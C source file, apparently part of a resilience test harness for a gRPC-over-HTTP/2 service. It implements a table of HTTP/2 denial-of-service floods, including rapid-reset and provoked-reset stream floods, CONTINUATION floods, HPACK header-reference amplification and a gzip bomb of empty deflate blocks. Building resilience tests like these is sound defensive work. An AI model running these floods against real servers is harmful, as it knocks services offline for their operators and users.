/* Floods over HTTP/2: frames that cost little to send. */
#include <string.h>

#include <nghttp2/nghttp2.h>

#include "attack.h"

enum {
    OPEN_STREAMS = 250,
    ENTRY_BYTES = 4000,
    FRAME_MAX = 16384,
    EMPTY_BLOCKS = 200000,
    PARKED_AT_A_TIME = 100,
    WAIT_MS = 60000
};

static uint32_t take_id(flood *f)
{
    uint32_t id = f->next_id;

    f->next_id += 2;
    return id;
}

static const h2_call known = {.path = PATH_DECODE, .token = TARGET_ATTACKERS_TOKEN}, unknown = {.path = PATH_DECODE};

/* A call whose message does not come. */
static void open_call(bytes *b, flood *f)
{
    h2_put_call(b, take_id(f), &known, 0);
}

static void open_calls(bytes *b, flood *f)
{
    for (size_t i = 0; i < OPEN_STREAMS; i++)
        open_call(b, f);
}

static const char much_padding[256] = {(char)255};

static void open_reset_call(bytes *b, flood *f)
{
    open_call(b, f);
    h2_put_frame(b, NGHTTP2_RST_STREAM, 0, 1, "\0\0\0\10", 4);
}

static bool long_unknown_frames(bytes *b, flood *f)
{
    static const uint8_t frame[FRAME_MAX];

    (void)f;
    for (size_t i = 0; i < 16; i++)
        h2_put_frame(b, 0xEE, 0, 1, frame, sizeof frame);
    return true;
}

/* Each frame says 2,000 times a window, and each time that of all open streams changes. */
static bool long_settings(bytes *b, flood *f)
{
    bytes entries = {0};

    (void)f;
    for (size_t i = 0; i < FLOOD_FRAMES; i++)
        bytes_put(&entries, i % 2 ? "\0\4\0\0\1\0" : "\0\4\0\0\2\0", 6);
    h2_put_frame(b, NGHTTP2_SETTINGS, 0, 0, entries.data, entries.len);
    bytes_free(&entries);
    return true;
}

static bool continuations(bytes *b, flood *f)
{
    h2_put_frame(b, NGHTTP2_HEADERS, 0, take_id(f), "", 0);
    for (size_t i = 0; i < FLOOD_FRAMES; i++)
        h2_put_frame(b, NGHTTP2_CONTINUATION, 0, f->next_id - 2, "", 0);
    return false;
}

static bool rapid_resets(bytes *b, flood *f)
{
    for (size_t i = 0; i < 100; i++) {
        uint32_t id = take_id(f);
        h2_put_call(b, id, &known, 0);
        h2_put_frame(b, NGHTTP2_RST_STREAM, 0, id, "\0\0\0\10", 4);
    }
    return false;
}

/* Calls that wait for a lock which another holds, and are reset once they do. */
static bool parked_resets(bytes *b, flood *f)
{
    static const h2_call call = {.path = PATH_ACQUIRE, .token = TARGET_ATTACKERS_TOKEN};
    bytes request = {0};

    for (size_t i = 0; i < PARKED_AT_A_TIME; i++) {
        uint32_t id = take_id(f);
        request.len = 0;
        pack_waiting_acquire(&request, id, WAIT_MS, 0);
        h2_put_call(b, id, &call, 0);
        h2_put_message(b, id, request.data, request.len, false, NGHTTP2_FLAG_END_STREAM);
        if (id > 2 * PARKED_AT_A_TIME)
            h2_put_frame(b, NGHTTP2_RST_STREAM, 0, id - 2 * PARKED_AT_A_TIME, "\0\0\0\10", 4);
    }
    bytes_free(&request);
    return false;
}

/* A window of 0 for each stream is an error of the stream: the server resets. */
static bool provoked_resets(bytes *b, flood *f)
{
    for (size_t i = 0; i < 100; i++) {
        uint32_t id = take_id(f);
        h2_put_call(b, id, &known, 0);
        h2_put_frame(b, NGHTTP2_WINDOW_UPDATE, 0, id, "\0\0\0\0", 4);
    }
    return false;
}

static void put_calls(bytes *b, flood *f, const h2_call *call)
{
    for (size_t i = 0; i < 50; i++) {
        uint32_t id = take_id(f);
        h2_put_call(b, id, call, 0);
        h2_put_message(b, id, "\10\1", 2, false, NGHTTP2_FLAG_END_STREAM);
    }
}

static bool refused_calls(bytes *b, flood *f)
{
    put_calls(b, f, &unknown);
    return false;
}

static bool unknown_methods(bytes *b, flood *f)
{
    static const h2_call call = {.path = "/no.such.Service/Method"};

    put_calls(b, f, &call);
    return false;
}

static bool calls(bytes *b, flood *f)
{
    put_calls(b, f, &known);
    return false;
}

/* No call at all: GET, and what HTTP forbids. */
static bool no_calls(bytes *b, flood *f)
{
    for (size_t i = 0; i < 100; i++)
        h2_put_frame(b, NGHTTP2_HEADERS, NGHTTP2_FLAG_END_HEADERS | NGHTTP2_FLAG_END_STREAM, take_id(f), "\x82\x87", 2);
    return false;
}

/* A field of 4 kB for HPACK's table. */
static void put_entry(bytes *b)
{
    bytes_put(b, "\x40\1a\x7F\xA1\x1E", 6); /* 4,000 = 127 + 0x21 + 0x1E * 128 */
    bytes_fill(b, 'x', ENTRY_BYTES);
}

/* One byte each, for 4 kB of headers: 64 MiB a frame. */
static bool header_references(bytes *b, flood *f)
{
    bytes block = {0};

    hpack_put_start(&block, PATH_DECODE);
    put_entry(&block);
    bytes_fill(&block, 0xBE, FRAME_MAX - block.len);
    h2_put_frame(b, NGHTTP2_HEADERS, NGHTTP2_FLAG_END_STREAM, take_id(f), block.data, block.len);
    block.len = 0;
    bytes_fill(&block, 0xBE, FRAME_MAX);
    h2_put_frame(b, NGHTTP2_CONTINUATION, NGHTTP2_FLAG_END_HEADERS, f->next_id - 2, block.data, block.len);
    bytes_free(&block);
    return false;
}

static void open_entry(bytes *b, flood *f)
{
    bytes block = {0};

    hpack_put_start(&block, PATH_DECODE);
    put_entry(&block);
    h2_put_frame(b, NGHTTP2_HEADERS, NGHTTP2_FLAG_END_HEADERS | NGHTTP2_FLAG_END_STREAM, take_id(f), block.data,
                 block.len);
    bytes_free(&block);
}

/* As much as a call may have before its connection ends: 60 kB by 15 bytes. */
static bool few_header_references(bytes *b, flood *f)
{
    bytes block = {0};

    hpack_put_start(&block, PATH_DECODE);
    bytes_fill(&block, 0xBE, 15);
    for (size_t i = 0; i < 50; i++) {
        h2_put_frame(b, NGHTTP2_HEADERS, NGHTTP2_FLAG_END_HEADERS | NGHTTP2_FLAG_END_STREAM, take_id(f), block.data,
                     block.len);
    }
    bytes_free(&block);
    return false;
}

/* A message of 1 MB of empty deflate blocks, from nobody. */
static bool gzip_of_nothing(bytes *b, flood *f)
{
    static const uint8_t head[] = {0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3};
    static const h2_call call = {.path = PATH_DECODE, .name = "grpc-encoding", .value = "gzip"};
    bytes message = {0};
    uint32_t id = take_id(f);

    bytes_put(&message, head, sizeof head);
    for (size_t i = 0; i < EMPTY_BLOCKS; i++)
        bytes_put(&message, "\0\0\0\xFF\xFF", 5);
    h2_put_call(b, id, &call, 0);
    h2_put_message(b, id, message.data, message.len, true, NGHTTP2_FLAG_END_STREAM);
    bytes_free(&message);
    return false;
}

const attack floods_h2[] = {
    {.name = "window_updates", .wires = ON_H2, .frame = {NGHTTP2_WINDOW_UPDATE, 0, 0, "\0\0\0\1", 4}},
    {.name = "stream_window_updates",
     .wires = ON_H2,
     .open = open_call,
     .frame = {NGHTTP2_WINDOW_UPDATE, 0, 1, "\0\0\0\1", 4}},
    {.name = "padding", .wires = ON_H2, .open = open_call, .frame = {NGHTTP2_DATA, NGHTTP2_FLAG_PADDED, 1, "\0", 1}},
    {.name = "much_padding",
     .wires = ON_H2,
     .open = open_call,
     .frame = {NGHTTP2_DATA, NGHTTP2_FLAG_PADDED, 1, much_padding, sizeof much_padding}},
    {.name = "empty_data", .wires = ON_H2, .open = open_call, .frame = {NGHTTP2_DATA, 0, 1, "", 0}},
    {.name = "late_data", .wires = ON_H2, .open = open_reset_call, .frame = {NGHTTP2_DATA, 0, 1, "x", 1}},
    {.name = "unknown_frames", .wires = ON_H2, .frame = {0xEE, 0, 0, "", 0}},
    {.name = "long_unknown_frames", .wires = ON_H2, .fill = long_unknown_frames},
    {.name = "pings", .wires = ON_H2, .frame = {NGHTTP2_PING, 0, 0, "12345678", 8}},
    {.name = "ping_answers", .wires = ON_H2, .frame = {NGHTTP2_PING, NGHTTP2_FLAG_ACK, 0, "12345678", 8}},
    {.name = "settings", .wires = ON_H2, .frame = {NGHTTP2_SETTINGS, 0, 0, "", 0}},
    {.name = "long_settings", .wires = ON_H2, .open = open_calls, .fill = long_settings},
    {.name = "priorities", .wires = ON_H2, .frame = {NGHTTP2_PRIORITY, 0, 3, "\0\0\0\0\20", 5}},
    {.name = "goaways", .wires = ON_H2, .frame = {NGHTTP2_GOAWAY, 0, 0, "\0\0\0\0\0\0\0\0", 8}},
    {.name = "continuations", .wires = ON_H2, .fill = continuations},
    {.name = "rapid_resets", .wires = ON_H2, .fill = rapid_resets},
    {.name = "parked_resets", .wires = ON_H2, .fill = parked_resets, .prepare = hold_the_lock},
    {.name = "provoked_resets", .wires = ON_H2, .fill = provoked_resets},
    {.name = "refused_calls", .wires = ON_H2, .fill = refused_calls},
    {.name = "unknown_methods", .wires = ON_H2, .fill = unknown_methods},
    {.name = "calls", .wires = ON_H2, .fill = calls},
    {.name = "no_calls", .wires = ON_H2, .fill = no_calls},
    {.name = "header_references", .wires = ON_H2, .fill = header_references},
    {.name = "few_header_references", .wires = ON_H2, .open = open_entry, .fill = few_header_references},
    {.name = "gzip_of_nothing", .wires = ON_H2, .fill = gzip_of_nothing},
    {.name = NULL},
};
